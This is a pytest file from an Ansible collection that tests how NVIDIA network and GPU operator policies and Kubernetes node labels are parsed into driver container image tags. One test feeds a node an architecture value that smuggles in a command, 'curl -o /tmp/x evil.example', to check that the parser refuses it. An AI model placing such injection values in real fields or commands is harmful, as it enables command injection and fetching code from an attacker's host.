# SPDX-License-Identifier: GPL-3.0-or-later

"""Policies of NVIDIA's operators, and nodes, to what decides on their driver containers."""

from __future__ import annotations

import typing

import hypothesis
import hypothesis.strategies as st
import pytest

from ansible_collections.linerate.rdma.plugins.module_utils._model.operators.drivers import (
    DriverHost,
    DriverPolicy,
    driver_image,
)
from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes.resource import ResourceError
from ansible_collections.linerate.rdma.plugins.module_utils._parse.operators.drivers import (
    driver_host,
    driver_policy,
    driver_selector,
)

NFD = "feature.node.kubernetes.io"
#: as NVIDIA's guide has it, with what the operator reports [network-operator-docs docs/quick-start/sriov-ib-rdma.rst]
NIC_POLICY: dict[str, typing.Any] = {
    "apiVersion": "mellanox.com/v1alpha1",
    "kind": "NicClusterPolicy",
    "metadata": {"name": "nic-cluster-policy"},
    "spec": {
        "ofedDriver": {
            "image": "doca-driver",
            "repository": "nvcr.io/nvidia/mellanox",
            "version": "doca3.2.0-25.10-1.2.8.0-2",
            "forcePrecompiled": True,
            "repoConfig": {"name": "repo-config"},
            "upgradePolicy": {"autoUpgrade": True, "maxParallelUpgrades": 1},
        }
    },
    "status": {
        "state": "notReady",
        "appliedStates": [
            {"name": "state-multus-cni", "state": "ignore"},
            {
                "name": "state-OFED",
                "state": "error",
                "message": "ForcePrecompiled is enabled and precompiled tag was not found: doca3.2.0-25.10",
            },
        ],
    },
}
NODE: dict[str, typing.Any] = {
    "metadata": {
        "name": "worker-1",
        "labels": {
            f"{NFD}/system-os_release.ID": "ubuntu",
            f"{NFD}/system-os_release.VERSION_ID": "22.04",
            f"{NFD}/kernel-version.full": "5.15.0-91-generic",
            f"{NFD}/pci-10de.present": "true",
        },
    },
    "status": {
        "nodeInfo": {"architecture": "amd64", "kernelVersion": "5.15.0-92-generic", "osImage": "Ubuntu 22.04.4 LTS"}
    },
}


def test_a_nic_cluster_policy_with_what_its_operator_says_of_the_driver() -> None:
    seen = driver_policy(NIC_POLICY)
    assert (seen.container, seen.image, seen.version) == (
        True,
        "nvcr.io/nvidia/mellanox/doca-driver",
        "doca3.2.0-25.10-1.2.8.0-2",
    )
    assert (seen.precompiled, seen.repositories, seen.ready) == (True, "repo-config", False)
    assert seen.message.startswith("ForcePrecompiled is enabled and precompiled tag was not found")
    ready = {
        **NIC_POLICY,
        "status": {"state": "notReady", "appliedStates": [{"name": "state-OFED", "state": "ready", "message": "old"}]},
    }
    assert (driver_policy(ready).ready, driver_policy(ready).message) == (True, ""), "another part is not ready"
    assert not driver_policy({**NIC_POLICY, "spec": {"nvIpam": {}}, "status": {"state": "ready"}}).container


@pytest.mark.parametrize(
    ("driver", "container", "precompiled"),
    [
        (
            {
                "enabled": True,
                "repository": "nvcr.io/nvidia",
                "image": "driver",
                "version": "580.105.08",
                "repoConfig": {"configMapName": "r"},
            },
            True,
            False,
        ),
        ({"usePrecompiled": True, "version": "580"}, True, True),
        ({"enabled": False}, False, False),
        ({"enabled": True, "useNvidiaDriverCRD": True}, False, False),
        ({}, True, False),
    ],
)
def test_a_cluster_policy(driver: dict[str, typing.Any], container: bool, precompiled: bool) -> None:
    seen = driver_policy(
        {
            "kind": "ClusterPolicy",
            "metadata": {"name": "cluster-policy"},
            "spec": {"driver": driver},
            "status": {"state": "ready"},
        }
    )
    assert (seen.container, seen.precompiled, seen.ready) == (container, precompiled, container)
    assert seen.repositories == ("r" if "repoConfig" in driver else "")


def test_a_node_by_what_its_image_is_chosen() -> None:
    assert driver_host(NODE) == DriverHost("worker-1", "ubuntu", "22.04", "5.15.0-91-generic", "amd64", "", True)
    bare = driver_host({**NODE, "metadata": {"name": "worker-1"}})
    assert bare == DriverHost("worker-1", kernel="5.15.0-92-generic", machine="amd64"), (
        "without node feature discovery the kubelet tells the kernel"
    )
    info = {**NODE["status"]["nodeInfo"], "architecture": "amd64; curl -o /tmp/x evil.example"}
    assert driver_host({**NODE, "status": {**NODE["status"], "nodeInfo": info}}).machine == "", "it stands in a command"


@pytest.mark.parametrize(
    ("kind", "version", "precompiled", "expected"),
    [
        # the tags of their own sources and guides
        ("NicClusterPolicy", "5.7-0.1.2.0-0", True, "r/i:5.7-0.1.2.0-0-5.15.0-91-generic-ubuntu22.04-amd64"),
        ("NicClusterPolicy", "5.7-0.1.2.0-0", False, "r/i:5.7-0.1.2.0-0-ubuntu22.04-amd64"),
        ("NicClusterPolicy", "sha256:ab", False, "r/i@sha256:ab"),
        ("ClusterPolicy", "525", True, "r/i:525-5.15.0-91-generic-ubuntu22.04"),
        ("ClusterPolicy", "535.104.05", False, "r/i:535.104.05-ubuntu22.04"),
        ("ClusterPolicy", "", False, "r/i:VERSION-ubuntu22.04"),
    ],
)
def test_tags(kind: str, version: str, precompiled: bool, expected: str) -> None:
    assert (
        driver_image(DriverPolicy(kind, "p", image="r/i", version=version), driver_host(NODE), precompiled) == expected
    )


def test_what_is_left_to_the_operator_is_in_capitals() -> None:
    assert driver_image(DriverPolicy("ClusterPolicy", "p"), driver_host(NODE), False) == "IMAGE:VERSION-ubuntu22.04"


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.dictionaries(st.text(max_size=8), inner) | st.lists(inner),
)


@hypothesis.given(
    st.dictionaries(st.sampled_from(("ofedDriver", "driver", "x")), JSON),
    st.dictionaries(st.sampled_from(("state", "appliedStates")), JSON),
    st.booleans(),
)
def test_any_other_object_is_a_policy_or_an_error(spec: typing.Any, status: typing.Any, nics: bool) -> None:
    resource = {
        "kind": "NicClusterPolicy" if nics else "ClusterPolicy",
        "metadata": {"name": "a"},
        "spec": spec,
        "status": status,
    }
    try:
        assert driver_policy(resource).name == "a"
    except ResourceError as error:
        assert str(error)


def test_a_nic_node_policy_is_one_of_the_nodes_of_its_selector() -> None:
    policy = {
        **NIC_POLICY,
        "kind": "NicNodePolicy",
        "metadata": {"name": "pool-a"},
        "spec": {**NIC_POLICY["spec"], "nodeSelector": {"pool": "a"}},
    }
    seen = driver_policy(policy)
    assert (seen.kind, seen.name, seen.container, seen.ready) == ("NicNodePolicy", "pool-a", True, False)
    assert seen.image == driver_policy(NIC_POLICY).image and seen.message.startswith("ForcePrecompiled is enabled")
    assert (driver_selector(policy), driver_selector(NIC_POLICY)) == ({"pool": "a"}, {})
    assert driver_policy({**policy, "status": {"state": "error", "reason": "no such image"}}).message == "no such image"


def test_an_nvidia_driver_and_the_policy_that_leaves_the_driver_to_it() -> None:
    """[NVIDIA/gpu-operator api/nvidia/v1alpha1 NVIDIADriverSpec]"""
    spec = {
        "driverType": "gpu",
        "repository": "nvcr.io/nvidia",
        "image": "driver",
        "version": "580.95.05",
        "repoConfig": {"name": "repos"},
    }
    made = {
        "kind": "NVIDIADriver",
        "metadata": {"name": "demo"},
        "spec": {**spec, "nodeSelector": {"pool": "a"}},
        "status": {"state": "notReady"},
    }
    seen = driver_policy(made)
    assert (seen.kind, seen.container, seen.ready, seen.image, seen.version) == (
        "NVIDIADriver",
        True,
        False,
        "nvcr.io/nvidia/driver",
        "580.95.05",
    )
    assert (seen.repositories, seen.precompiled, driver_selector(made)) == ("repos", False, {"pool": "a"})
    assert driver_policy({**made, "status": {"state": "ready"}}).ready
    policy = {
        "kind": "ClusterPolicy",
        "metadata": {"name": "cluster-policy"},
        "spec": {"driver": {"useNvidiaDriverCRD": True}},
    }
    assert (driver_policy(policy).container, driver_policy(policy).delegated) == (False, True)
    off = {**policy, "spec": {"driver": {"useNvidiaDriverCRD": True, "enabled": False}}}
    assert not driver_policy(off).delegated
